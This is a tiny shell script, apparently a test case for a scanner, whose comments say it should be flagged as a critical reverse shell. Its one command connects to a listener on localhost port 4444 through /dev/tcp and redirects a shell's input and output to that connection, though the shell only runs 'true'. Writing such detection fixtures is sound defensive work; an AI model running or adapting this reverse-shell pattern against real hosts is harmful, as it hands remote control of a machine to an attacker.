#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: a shell with a connection as its input and output
# expect: reverse-shell critical
# listen: 127.0.0.1:4444
bash -c "exec 3<>/dev/tcp/127.0.0.1/4444; sh -c true <&3 >&3 2>&3"
